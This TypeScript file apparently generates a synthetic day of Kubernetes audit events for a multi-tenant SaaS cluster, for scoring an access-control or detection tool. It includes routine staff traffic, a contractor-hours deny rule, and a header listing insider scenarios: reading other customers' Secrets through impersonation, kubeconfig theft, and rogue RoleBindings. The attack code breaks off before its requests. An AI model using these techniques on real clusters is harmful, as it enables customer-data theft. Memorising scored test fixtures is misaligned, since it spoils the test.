import { attackKit, type AttackRequest, type DayEvent, lastScoredOf, LINUX, type Login, MAC, PLATFORM_HINT, prng, WIN, withAttacks, WS_UPGRADE } from './workday.js';

/**
 * A sixteenth replayed day, written as an outside red team and an outside observer would after
 * reading docs/risk.md, from situations days 1–14 do not have: a SaaS company of about 25 whose
 * product runs every customer in one big production cluster, reached as
 * `kubernetes.prod.tenantly.example`, on the day of a product launch. Warm-up Monday 7 June 2027,
 * scored Tuesday 8 June (hours UTC; Lisbon is UTC+1, Toronto UTC−4, Singapore UTC+8). The example
 * as shipped, plus (`SITE`, since session 49) the two contractors' access hours.
 *
 * Routine, as the tools send it:
 * - one namespace per customer (`tenant-<customer>`), created by the company's tenant operator
 *   inside the cluster and grouped into Capsule tenants (`capsule.clastix.io/tenant` on the
 *   Namespace); enterprise customers get a vcluster whose host namespace is their tenant
 *   namespace: its StatefulSet `vc-<customer>`, its kubeconfig Secret `vc-<customer>`, and the
 *   virtual cluster's pods and Secrets synced down as `<name>-x-<namespace>-x-vc-<customer>`;
 * - the launch at 14:00: the tenant operator creates a namespace for every new sign-up (inside the
 *   cluster, every few minutes), and tickets from new customers arrive from 14:30;
 * - customer support (Lisbon, Toronto, Singapore) looks at a customer's workloads on each ticket:
 *   pods, events, logs, Deployments, and `kubectl auth can-i --list --as=<the customer's admin>`
 *   (a SelfSubjectRulesReview with Impersonate-User and Impersonate-Group) to see what the
 *   customer sees; never Secrets;
 * - SREs on a follow-the-sun rotation: Lisbon through a `tsh kube`-style access proxy (their
 *   kubectl's requests reach the gateway from the proxy's one egress address, kubectl's agent
 *   unchanged) and OpenLens through it, Singapore from the office network, Toronto from home with
 *   kubelogin; the platform's own namespaces (`platform-api`, `platform-api-prod`, the tenant
 *   operator's, Capsule's, ingress), a shell in a customer's pod when a ticket is escalated,
 *   `kubectl rollout restart`; the Toronto on-call paged at 03:00 UTC (23:00 at home, on a phone
 *   hotspot whose carrier NAT moves to another /24 every few requests);
 * - the platform team: `vcluster connect` (the StatefulSet, the kubeconfig Secret, a
 *   port-forward to the virtual cluster's API), Capsule's Tenants read, the operator's logs;
 * - the data team: Spark on Kubernetes through the Spark operator (`kubectl apply` of a
 *   SparkApplication, the driver's logs, a port-forward to the Spark UI) and Airflow's UI;
 * - two contractors with time-boxed access (09:00–13:00 and 13:00–17:00) building billing v2 in
 *   `billing-dev` and `billing-staging`, from a coworking space and from home;
 * - CI deploying the platform API to staging every 20 minutes from the runner pool.
 *
 * The attacks (public tradecraft and incidents: insiders selling customer data, leaked
 * deploy tokens, offboarding that revokes access but not refresh tokens, Capsule's and vcluster's
 * own objects): a support engineer bribed by a competitor reading another customer's Secrets,
 * impersonating its admin as on a ticket; a vcluster's synced Secrets and its kubeconfig read
 * from the host cluster by malware on a support laptop; a tenant's operator-created deploy
 * token used from a VPS; a contractor whose window ended, on a refreshed token; a new tenant
 * namespace with a RoleBinding to an outside identity; a Capsule TenantResource that makes
 * Capsule write that RoleBinding into every namespace of a customer; a customer's namespace
 * re-labelled into another Capsule tenant; the cross-tenant NetworkPolicy of two customers
 * deleted and opened.
 */

export const D16_MON = Date.UTC(2027, 5, 7, 0, 0, 0); // warm-up
export const D16_TUE = Date.UTC(2027, 5, 8, 0, 0, 0); // the scored day: the launch
const H = 3_600_000;
const M = 60_000;
const S = 1000;

export const PROD = 'kubernetes.prod.tenantly.example';
const GRAFANA = 'grafana.localhost';
const AIRFLOW = 'airflow.localhost';

/** The access proxy's one egress address (Frankfurt): every Lisbon SRE's and platform engineer's kubectl and OpenLens. */
export const TSH_PROXY = '3.120.55.10';
/** The Lisbon office's two public NAT addresses. */
export const LIS_OFFICE = ['195.23.40.17', '195.23.40.18'];
export const COWORK = '185.199.12.40';

const KUBECTL = (os: string, v = 'v1.30.4') => `kubectl/${v} (${os}) kubernetes/a51b3b7`;
const OPENLENS = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) OpenLens/6.5.2-366 Chrome/112.0.5615.165 Electron/24.8.3 Safari/537.36`;
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36`;
const CH_UA = '"Google Chrome";v="125", "Chromium";v="125", "Not.A/Brand";v="24"';

const JSON_CT = { 'content-type': 'application/json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const WS = WS_UPGRADE;

type Where = 'lis-office' | 'lis-home' | 'tor-home' | 'sin-office' | 'hotspot' | 'cowork' | 'home';
type Kind = 'sre' | 'support' | 'data' | 'contractor' | 'platform';
type Sitting = [number, number, Where];

interface Person {
  name: string;
  short: string;
  idx: number;
  kind: Kind;
  os: string;
  kubectlOs: string;
  /** kubectl (and OpenLens) through the access proxy: the gateway sees its egress address. */
  proxied: boolean;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
}

/** Existing customers; the odd ones are on the enterprise plan, each with a vcluster in its namespace. */
export const CUSTOMERS = ['acme', 'globex', 'initech', 'umbrella', 'hooli', 'piedpiper', 'wayne', 'stark', 'wonka', 'cyberdyne', 'tyrell', 'soylent', 'oscorp', 'aperture', 'vandelay', 'dunder', 'gringotts', 'monarch', 'nakatomi', 'bluth', 'prestige', 'massive', 'duff', 'krusty', 'sterling', 'pawnee', 'wernham', 'gekko', 'virtucon', 'zorg'];
const vclusterOf = (c: string) => CUSTOMERS.indexOf(c) % 2 === 1;
/** Sign-ups of the launch: the tenant operator creates `tenant-<name>` for each, from 14:00. */
const LAUNCH = Array.from({ length: 30 }, (_, k) => `${['nova', 'orbit', 'lumen', 'quill', 'ember', 'fjord'][k % 6]}${100 + k * 7}`);

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, warm: Sitting[], scored: Sitting[], os = MAC, proxied = false) => {
    const j = () => (rand() - 0.5) * 0.4;
    out.push({
      name: `d16-${short}@tenantly.example`,
      short,
      idx: out.length,
      kind,
      os,
      kubectlOs: os === MAC ? 'darwin/arm64' : os === WIN ? 'windows/amd64' : 'linux/amd64',
      proxied,
      warm: warm.map(([a, b, w]) => [a + j(), b + j(), w]),
      scored: scored.map(([a, b, w]) => [a + j(), b + j(), w]),
      lunch: 12 + rand() * 0.8,
    });
  };
  add('sre-lis-1', 'sre', [[7, 16, 'lis-office']], [[7, 16, 'lis-office']], MAC, true);
  add('sre-lis-2', 'sre', [[7.5, 16.5, 'lis-home']], [[7.5, 16.5, 'lis-office']], LINUX, true);
  add('sre-lis-3', 'sre', [[8, 17, 'lis-office']], [[8, 12, 'lis-home'], [13, 17, 'lis-office']], MAC, true);
  // The Toronto on-call is paged at 03:00 UTC (23:00 at home, on the phone's hotspot: the home
  // broadband is down), with a sign-in of their own, then works their day.
  add('sre-tor-1', 'sre', [[13, 22, 'tor-home']], [[3, 3.8, 'hotspot'], [13.5, 22, 'tor-home']], MAC);
  add('sre-tor-2', 'sre', [[13, 21.5, 'tor-home']], [[13, 21.5, 'tor-home']], LINUX);
  add('sre-tor-3', 'sre', [[14, 22.5, 'tor-home']], [[14, 22.5, 'tor-home']], MAC);
  add('sre-sin-1', 'sre', [[1, 10, 'sin-office']], [[1, 10, 'sin-office']], LINUX);
  add('sre-sin-2', 'sre', [[1.5, 10.5, 'sin-office']], [[1.5, 10.5, 'sin-office']], MAC);
  add('support-lis-1', 'support', [[8, 17, 'lis-office']], [[8, 17, 'lis-office']], WIN);
  add('support-lis-2', 'support', [[8.5, 17.5, 'lis-office']], [[8.5, 17.5, 'lis-office']], MAC);
  add('support-lis-3', 'support', [[9, 18, 'lis-home']], [[9, 18, 'lis-home']], WIN);
  add('support-tor-1', 'support', [[13, 22, 'tor-home']], [[13, 22, 'tor-home']], MAC);
  add('support-tor-2', 'support', [[14, 23, 'tor-home']], [[14, 23, 'tor-home']], WIN);
  add('support-sin-1', 'support', [[1, 10, 'sin-office']], [[1, 10, 'sin-office']], MAC);
  add('support-sin-2', 'support', [[2, 11, 'sin-office']], [[2, 11, 'sin-office']], WIN);
  add('data-1', 'data', [[8, 17, 'lis-office']], [[8, 17, 'lis-office']], MAC);
  add('data-2', 'data', [[8.5, 17.5, 'lis-home']], [[8.5, 17.5, 'lis-home']], LINUX);
  add('data-3', 'data', [[9, 18, 'lis-office']], [[9, 13, 'lis-office'], [14, 18, 'lis-home']], MAC);
  add('contractor-1', 'contractor', [[9, 13, 'home']], [[9, 13, 'cowork']], LINUX);
  add('contractor-2', 'contractor', [[13, 17, 'home']], [[13, 17, 'home']], WIN);
  add('platform-1', 'platform', [[7.5, 16.5, 'lis-office']], [[7.5, 16.5, 'lis-office']], MAC, true);
  add('platform-2', 'platform', [[8, 17, 'lis-home']], [[8, 17, 'lis-home']], LINUX, true);
  add('platform-3', 'platform', [[13.5, 22, 'tor-home']], [[13.5, 22, 'tor-home']], MAC);
  return out;
}

function addressOf(p: Person, where: Where, k: number): string {
  const i = p.idx;
  switch (where) {
    case 'lis-office':
      return LIS_OFFICE[k % 2]!;
    case 'lis-home':
      return `85.240.${20 + i}.${100 + i}`;
    case 'tor-home':
      return `99.230.${40 + i}.${10 + i}`;
    case 'sin-office':
      return `10.60.3.${40 + i}`;
    case 'hotspot':
      // The carrier's NAT: another /24 of its /16 every five requests or so.
      return `174.93.${60 + (Math.floor(k / 5) % 7) * 17}.${20 + (k % 40)}`;
    case 'cowork':
      return COWORK;
    case 'home':
      return i % 2 ? `83.132.${30 + i}.${40 + i}` : `94.61.${70 + i}.${5 + i}`;
  }
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string; browser?: boolean };

const podIn = (c: string, rand: () => number) => {
  const app = ['web', 'worker', 'api'][Math.floor(rand() * 3)]!;
  const base = `${app}-7d9f8c-${['x2kq9', 'm4tz7', 'c9wpl'][Math.floor(rand() * 3)]}`;
  return vclusterOf(c) ? `${base}-x-default-x-vc-${c}` : base;
};

/** The customer a ticket is about: the big ones most, a launch sign-up once they exist. */
function ticketCustomer(rand: () => number, h: number): string {
  if (h > 14.5 && rand() < 0.4) return LAUNCH[Math.floor(rand() * Math.min(LAUNCH.length, (h - 14) * 4))]!;
  const r = rand();
  return CUSTOMERS[Math.floor(r * r * CUSTOMERS.length)]!;
}

/** A support ticket: what the customer's workloads are doing, and what the customer can do. */
function supportTask(rand: () => number, h: number): Req[] {
  const c = ticketCustomer(rand, h);
  const ns = `tenant-${c}`;
  const po = podIn(c, rand);
  const as = { 'impersonate-user': `admin@${c}.example`, 'impersonate-group': `capsule:${c}:owners` };
  const reqs: Req[] = [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/events?fieldSelector=involvedObject.name%3D${po}%2CinvolvedObject.namespace%3D${ns}%2CinvolvedObject.kind%3DPod` },
  ];
  const k = rand();
  if (k < 0.5) reqs.push({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=app&tailLines=200` });
  if (k > 0.3 && k < 0.6) reqs.push({ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` });
  if (k > 0.55) reqs.push({ method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', headers: { ...JSON_CT, ...as }, body: JSON.stringify({ kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { namespace: ns }, status: { resourceRules: null, nonResourceRules: null, incomplete: false } }) });
  if (k > 0.85) reqs.push({ method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500`, headers: as });
  return reqs;
}

const PLATFORM_NS = ['platform-api', 'platform-api-prod', 'tenant-operator', 'capsule-system', 'ingress-nginx'];

/** An SRE's day: the platform's namespaces, OpenLens, now and then an escalated ticket's customer. */
function sreTask(rand: () => number, p: Person, h: number, scored: boolean): Req[] {
  const k = rand();
  const ns = PLATFORM_NS[Math.floor(rand() * PLATFORM_NS.length)]!;
  const lens = (path: string): Req => ({ method: 'GET', path, ua: OPENLENS(p.os), browser: false });
  if (k < 0.2) return [lens(`/api/v1/namespaces/${ns}/pods?limit=500`), lens(`/api/v1/namespaces/${ns}/pods?resourceVersion=0&watch=true&allowWatchBookmarks=true&timeoutSeconds=600`)];
  if (k < 0.4) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${ns}-6c8d7-${['q2w9x', 'h7r2k'][Math.floor(rand() * 2)]}/log?container=${ns === 'tenant-operator' ? 'manager' : 'app'}&tailLines=100` }];
  if (k < 0.5) return [{ method: 'GET', path: '/apis/capsule.clastix.io/v1beta2/tenants?limit=500' }, { method: 'GET', path: '/api/v1/namespaces?labelSelector=capsule.clastix.io%2Ftenant&limit=500' }];
  if (k < 0.58) return [{ method: 'GET', path: '/api/v1/namespaces/platform-api-prod/secrets/postgres-app' }];
  if (k < 0.66) return [{ method: 'GET', path: `/api/v1/namespaces/platform-api-prod/pods/platform-api-prod-6c8d7-q2w9x/exec?command=sh&container=app&stdin=true&stdout=true&tty=true`, headers: WS }];
  if (k < 0.72) {
    const c = ticketCustomer(rand, h);
    // An escalated ticket: a shell in the customer's pod.
    return [{ method: 'GET', path: `/api/v1/namespaces/tenant-${c}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/tenant-${c}/pods/${podIn(c, rand)}/exec?command=sh&container=app&stdin=true&stdout=true&tty=true`, headers: WS }];
  }
  if (k < 0.78)
    return [
      { method: 'PATCH', path: '/apis/apps/v1/namespaces/platform-api/deployments/platform-api?fieldManager=kubectl-rollout', headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': new Date((scored ? D16_TUE : D16_MON) + h * H).toISOString() } } } } }) },
      { method: 'GET', path: '/apis/apps/v1/namespaces/platform-api/deployments?fieldSelector=metadata.name%3Dplatform-api&watch=true' },
    ];
  if (k < 0.88) return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
  return [{ method: 'GET', host: GRAFANA, path: '/api/dashboards/uid/tenants-overview', browser: true }, { method: 'POST', host: GRAFANA, path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: 'sum by (namespace) (rate(http_requests_total{namespace=~"tenant-.*"}[5m]))' }], from: 'now-1h', to: 'now' }), browser: true }];
}

/** The launch (14:00–16:00): the operator's new namespaces watched, a new customer's failing pod opened. */
function launchTask(rand: () => number, h: number): Req[] {
  const c = LAUNCH[Math.floor(rand() * Math.min(LAUNCH.length, Math.max(1, (h - 14) * 4)))]!;
  const ns = `tenant-${c}`;
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/tenant-operator/pods/tenant-operator-6c8d7-q2w9x/log?container=manager&follow=true&tailLines=50' }, { method: 'GET', path: '/api/v1/namespaces?labelSelector=capsule.clastix.io%2Ftenant&watch=true' }];
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/web-7d9f8c-x2kq9/exec?command=sh&container=app&stdin=true&stdout=true&tty=true`, headers: WS }];
}

/** `vcluster connect vc-<c> -n tenant-<c>`: the StatefulSet, its kubeconfig Secret, a port-forward to its API. */
function vclusterConnect(c: string): Req[] {
  const ns = `tenant-${c}`;
  return [
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/statefulsets/vc-${c}`, ua: 'vcluster/v0.20.0 (darwin/arm64) kubernetes/$Format' },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/vc-${c}`, ua: 'vcluster/v0.20.0 (darwin/arm64) kubernetes/$Format' },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3Dvcluster%2Crelease%3Dvc-${c}`, ua: 'vcluster/v0.20.0 (darwin/arm64) kubernetes/$Format' },
    { method: 'POST', path: `/api/v1/namespaces/${ns}/pods/vc-${c}-0/portforward`, ua: 'vcluster/v0.20.0 (darwin/arm64) kubernetes/$Format', headers: { connection: 'Upgrade', upgrade: 'SPDY/3.1', 'x-stream-protocol-version': 'portforward.k8s.io' } },
  ];
}

/** The platform team: vcluster connect to an enterprise customer's, Capsule, the operator. */
function platformTask(rand: () => number, p: Person): Req[] {
  const k = rand();
  const enterprise = CUSTOMERS.filter((_, i) => i % 2 === 1);
  // Each platform engineer looks after a handful of enterprise customers.
  const mine = enterprise.slice((p.idx % 3) * 4, (p.idx % 3) * 4 + 4);
  if (k < 0.25) return vclusterConnect(mine[Math.floor(rand() * mine.length)]!);
  if (k < 0.45) return [{ method: 'GET', path: '/apis/capsule.clastix.io/v1beta2/tenants?limit=500' }, { method: 'GET', path: `/apis/capsule.clastix.io/v1beta2/tenants/${mine[Math.floor(rand() * mine.length)]!}` }];
  if (k < 0.65) return [{ method: 'GET', path: '/api/v1/namespaces/tenant-operator/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/tenant-operator/pods/tenant-operator-6c8d7-q2w9x/log?container=manager&tailLines=200' }];
  if (k < 0.75) return [{ method: 'GET', path: '/api/v1/namespaces/capsule-system/pods?limit=500' }, { method: 'GET', path: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations?limit=500' }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/v1/namespaces/tenant-${mine[0]!}/resourcequotas?limit=500` }, { method: 'GET', path: `/apis/networking.k8s.io/v1/namespaces/tenant-${mine[0]!}/networkpolicies?limit=500` }];
  return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: '/api/v1/nodes?limit=500' }];
}

/** A SparkApplication as `kubectl apply -f` creates it (the Spark operator runs its driver and executors). */
export function sparkApp(name: string): string {
  const doc = {
    apiVersion: 'sparkoperator.k8s.io/v1beta2',
    kind: 'SparkApplication',
    metadata: { name, namespace: 'data-spark' },
    spec: {
      type: 'Python',
      mode: 'cluster',
      image: 'registry.tenantly.example/data/spark-py:3.5.1',
      mainApplicationFile: 'local:///opt/jobs/usage_rollup.py',
      sparkVersion: '3.5.1',
      restartPolicy: { type: 'Never' },
      driver: { cores: 1, memory: '2g', serviceAccount: 'spark-driver', labels: { team: 'data' } },
      executor: { cores: 2, instances: 4, memory: '4g', labels: { team: 'data' } },
    },
  };
  return JSON.stringify({ ...doc, metadata: { ...doc.metadata, annotations: { 'kubectl.kubernetes.io/last-applied-configuration': `${JSON.stringify(doc)}\n` } } });
}

/** The data team: Spark applications, their drivers' logs and UI, Airflow. */
function dataTask(rand: () => number): Req[] {
  const k = rand();
  const app = `usage-rollup-${Math.floor(rand() * 1e5).toString(36)}`;
  if (k < 0.15)
    return [
      { method: 'GET', path: `/apis/sparkoperator.k8s.io/v1beta2/namespaces/data-spark/sparkapplications/${app}` },
      { method: 'POST', path: '/apis/sparkoperator.k8s.io/v1beta2/namespaces/data-spark/sparkapplications?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', headers: JSON_CT, body: sparkApp(app) },
    ];
  if (k < 0.35) return [{ method: 'GET', path: '/apis/sparkoperator.k8s.io/v1beta2/namespaces/data-spark/sparkapplications?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/data-spark/pods/${app}-driver/log?container=spark-kubernetes-driver&follow=true` }];
  if (k < 0.45) return [{ method: 'POST', path: `/api/v1/namespaces/data-spark/pods/${app}-driver/portforward`, headers: { connection: 'Upgrade', upgrade: 'SPDY/3.1', 'x-stream-protocol-version': 'portforward.k8s.io' } }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/data-airflow/secrets/airflow-connections' }];
  if (k < 0.8)
    return [
      { method: 'GET', host: AIRFLOW, path: '/api/v1/dags?limit=100&only_active=true', browser: true },
      { method: 'GET', host: AIRFLOW, path: `/api/v1/dags/usage_rollup/dagRuns?order_by=-execution_date&limit=25`, browser: true },
    ];
  return [{ method: 'GET', path: '/api/v1/namespaces/data-airflow/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/data-spark/pods?labelSelector=spark-role%3Ddriver&limit=500' }];
}

/** A contractor building billing v2: dev and staging only. */
function contractorTask(rand: () => number): Req[] {
  const k = rand();
  const ns = rand() < 0.6 ? 'billing-dev' : 'billing-staging';
  if (k < 0.35) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/billing-v2-5f7b9-k2j4p/log?container=app&tailLines=200` }];
  if (k < 0.55)
    return [
      { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/billing-v2` },
      { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/billing-v2?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'app', image: `registry.tenantly.example/billing/billing-v2:0.${Math.floor(rand() * 40)}.0` }] } } } }) },
    ];
  if (k < 0.65) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/stripe-test-key` }];
  if (k < 0.75) return [{ method: 'POST', path: `/api/v1/namespaces/${ns}/pods/billing-v2-5f7b9-k2j4p/portforward`, headers: { connection: 'Upgrade', upgrade: 'SPDY/3.1', 'x-stream-protocol-version': 'portforward.k8s.io' } }];
  if (k < 0.82) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/billing-v2-5f7b9-k2j4p/exec?command=sh&container=app&stdin=true&stdout=true&tty=true`, headers: WS }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
}

/** The two contractors (time-boxed access: 09:00–13:00 and 13:00–17:00 UTC on weekdays). */
export const CONTRACTORS = ['d16-contractor-1@tenantly.example', 'd16-contractor-2@tenantly.example'] as const;

/**
 * The site's copy of the example (session 49): each contractor's time box as an outside_hours deny
 * rule, as the example's vendor-support-hours is written and as docs/configuration.md says a
 * daily window is (hours, not access_windows[], which dates one engagement), with half an hour
 * either side. Ending the IdP session and the RBAC binding at the end of the box is still the
 * site's; the rule refuses a token refreshed past it (day 16's finding). Nothing else is changed.
 */
export function SITE(yaml: string): string {
  const rules = '\n  rules:\n';
  if (yaml.split(rules).length !== 2) throw new Error('day 16: the example no longer has one policy.rules');
  return yaml.replace(rules, `${rules}${contractorHours(CONTRACTORS[0], 'morning', '08:30', '13:30', '09:00 to 13:00')}${contractorHours(CONTRACTORS[1], 'afternoon', '12:30', '17:30', '13:00 to 17:00')}`);
}

function contractorHours(sub: string, box: string, from: string, to: string, said: string): string {
  return `    - name: contractor-${box}-access
      description: the ${box} contractor acts within their time box, Monday to Friday ${said} UTC
      match:
        subjects: ["${sub}"]
        outside_hours:
          time_zone: UTC
          windows: [{days: [mon, tue, wed, thu, fri], from: "${from}", to: "${to}"}]
      deny: true
      message: your contractor access is Monday to Friday, ${said} UTC; outside it ask the billing v2 lead
`;
}

export function workday16(seed = 161): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 16);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D16_MON, D16_TUE]) {
    const scored = day === D16_TUE;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const sittings = scored ? p.scored : p.warm;
      const mine: DayEvent[] = [];
      // A sign-in at the start of each sitting more than 6 hours after the last (the night page
      // and the day are two); the browser and kubectl's credential plugin share it.
      let login: Login | undefined;
      let last = -Infinity;
      let n = 0;
      for (const [from, to, where] of sittings) {
        if (login === undefined || from - last > 6) login = { sub: p.name, sid: `${p.name}:${day}:${Math.round(from * 10)}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
        last = to;
        const l = login;
        const push = (t: number, q: Req) => {
          const browser = q.browser === true;
          const lens = q.ua?.includes('OpenLens') === true;
          const place = addressOf(p, where, n);
          // kubectl and OpenLens through the access proxy for those who use it, wherever they are.
          const ip = !browser && p.proxied ? TSH_PROXY : place;
          const ua = q.ua ?? (browser ? CHROME(p.os) : KUBECTL(p.kubectlOs));
          const hints = browser || lens ? { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[p.os]! } : undefined;
          const headers = hints || q.headers ? { ...hints, ...q.headers } : undefined;
          n++;
          mine.push({ at: Math.round(t), actor: p.name, scored, ip, ua, login: l, method: q.method, path: q.path, host: q.host ?? PROD, ...(headers ? { headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) });
        };
        let t = at(from);
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= p.lunch && h < p.lunch + 0.75 && from < p.lunch && to > p.lunch + 0.75) {
            t = at(p.lunch + 0.75) + S;
            continue;
          }
          let reqs: Req[];
          if (p.kind === 'support') reqs = supportTask(rand, h);
          else if (p.kind === 'sre') reqs = scored && h >= 14 && h < 16 && rand() < 0.5 ? launchTask(rand, h) : where === 'hotspot' ? incidentTask(rand) : sreTask(rand, p, h, scored);
          else if (p.kind === 'platform') reqs = platformTask(rand, p);
          else if (p.kind === 'data') reqs = dataTask(rand);
          else reqs = contractorTask(rand);
          const gap = 500 + rand() * 1500;
          reqs.forEach((q, k) => push(t + k * gap, q));
          t += where === 'hotspot' ? 1 * M + rand() * 3 * M : p.kind === 'support' ? 4 * M + rand() * 8 * M : 5 * M + rand() * 12 * M;
        }
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // CI: the platform API to staging every 20 minutes from the runner pool, each job its own token.
    for (let j = 0; j < 36; j++) {
      const t = day + 7 * H + j * 20 * M;
      const ci: Login = { sub: 'ci-deployer@tenantly.example', sid: `ci:${day}:${j}`, authTime: Math.floor(t / 1000), acr: 'urn:stepgate:aal1' };
      const ip = `10.30.${j % 4}.${10 + (j % 50)}`;
      const ua = 'kubectl/v1.30.4 (linux/amd64) kubernetes/a51b3b7';
      events.push({ at: t, actor: 'ci', scored, ip, ua, login: ci, method: 'PATCH', path: '/apis/apps/v1/namespaces/platform-api/deployments/platform-api?fieldManager=kubectl-set', host: PROD, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'app', image: `registry.tenantly.example/platform/api:${day / 1000}-${j}` }] } } } }) });
      events.push({ at: t + 5000, actor: 'ci', scored, ip, ua, login: ci, method: 'GET', path: '/apis/apps/v1/namespaces/platform-api/deployments/platform-api', host: PROD });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks16(people, events));
}

/** The night page: the ingress of the platform API failing; logs, a restart, the customers' traffic. */
function incidentTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/namespaces/ingress-nginx/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/ingress-nginx/pods/ingress-nginx-controller-7b9c-f2k8p/log?container=controller&tailLines=500' }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/platform-api-prod/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/platform-api-prod/events?limit=500' }];
  if (k < 0.6) return [{ method: 'GET', path: '/api/v1/namespaces/platform-api-prod/pods/platform-api-prod-6c8d7-q2w9x/exec?command=sh&container=app&stdin=true&stdout=true&tty=true', headers: WS }];
  if (k < 0.7)
    return [{ method: 'PATCH', path: '/apis/apps/v1/namespaces/platform-api-prod/deployments/platform-api-prod?fieldManager=kubectl-rollout', headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-06-08T03:20:00Z' } } } } }) }];
  return [{ method: 'GET', host: GRAFANA, path: '/api/dashboards/uid/ingress-nginx', browser: true }, { method: 'POST', host: GRAFANA, path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: 'sum(rate(nginx_ingress_controller_requests{status=~"5.."}[5m]))' }], from: 'now-3h', to: 'now' }), browser: true }];
}

const rbac = (ns: string, name: string, subject: Record<string, string>) => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'RoleBinding',
  metadata: { name, namespace: ns },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'admin' },
  subjects: [subject],
});

/** Whom the competitor's insider targets: a customer none of the support tickets is about. */
export const TARGETS = ['gekko', 'virtucon', 'zorg'];

function attacks16(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D16_TUE, PROD);
  const kubectl = (x: DayEvent) => x.ua.startsWith('kubectl/') && x.host === PROD;
  /** Malware on the victim's laptop: their kubectl's address, agent and token at `h`. */
  const onLaptop = (attack: string, p: Person, h: number, reqs: AttackRequest[], gapMs: number) => {
    const v = lastScoredOf(routine, p.name, T(h), kubectl);
    add(attack, T(h), v.ip, v.ua, v.login, on(reqs), gapMs, p);
  };

  // 1. A support engineer paid by a competitor: at 15:20, between tickets, with the cover of one
  // (the customer's pods first, impersonating its admin as `kubectl --as` does on every ticket),
  // reads the Secrets of three customers the competitor wants (their Stripe keys and database
  // credentials). They can sign in.
  const sup = by('support-lis-2');
  const v1 = lastScoredOf(routine, sup.name, T(15.3), kubectl);
  const reqs1: AttackRequest[] = [];
  for (const c of TARGETS) {
